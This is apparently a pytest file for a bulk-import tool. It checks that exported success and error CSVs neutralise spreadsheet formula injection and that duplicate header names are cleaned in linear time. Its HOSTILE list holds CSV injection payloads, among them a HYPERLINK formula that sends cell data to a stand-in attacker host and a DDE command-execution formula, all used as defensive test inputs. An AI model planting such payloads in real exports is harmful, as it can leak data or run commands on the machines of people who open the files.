"""Result CSVs carry no live formulas; a hostile header is cleaned in linear time."""

from __future__ import annotations

import csv
import json
import time
from pathlib import Path

from callbridge.bulk.read import clean_columns
from callbridge.bulk.results import FORMULA_TRIGGERS

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "=cmd|'/c calc'!A1",
    "+SUM(1+1)",
    "@cmd",
    "-2+3",
    "\tTAB",
]


def test_formula_cells_are_neutralised_in_success_and_errors(tmp_path: Path, cli_in) -> None:  # type: ignore[no-untyped-def]
    rows = ["external_id,phone_number,first_name,=HEADER()"]
    for index, cell in enumerate(HOSTILE, start=1):
        quoted = '"' + cell.replace('"', '""') + '"'
        rows.append(f"e{index},+1415555{index:04d},{quoted},{quoted}")
    rows.append("=bad(),not a phone,\"=cmd|' /c calc'!A1\",x")
    (tmp_path / "c.csv").write_text("\n".join(rows) + "\n")
    outcome = cli_in("import", "c.csv", "--owner-id", "usr_ada")
    assert outcome.code in (0, 1), outcome.output
    assert "Traceback" not in outcome.output
    results = next((tmp_path / ".callbridge" / "imports").glob("*/results"))
    cells: list[str] = []
    for name in ("success.csv", "errors.csv"):
        with (results / name).open(newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert "'=HEADER()" in cells
    live = [
        c
        for c in cells
        if c and c[0] in FORMULA_TRIGGERS and not c.lstrip("+-").replace(".", "").isdigit()
    ]
    assert live == []
    for cell in HOSTILE:
        assert "'" + cell in cells  # kept, made inert, recoverable by dropping one quote
    assert "+14155550001" in cells  # an E.164 phone is a number, left as it is
    summary = json.loads((results / "summary.json").read_text())
    assert summary["csvFormulaGuard"]["prefix"] == "'"


def test_a_header_of_32768_repeated_names_is_cleaned_in_linear_time() -> None:
    for raw in ([""] * 32_768, ["name"] * 32_768, [" "] * 32_768):
        started = time.perf_counter()
        names = clean_columns(raw)
        assert time.perf_counter() - started < 5  # was 83 s when every duplicate counted up
        assert len(set(names)) == 32_768
    assert clean_columns(["a", "a", "a_2", "a"]) == ("a", "a_2", "a_2_2", "a_3")
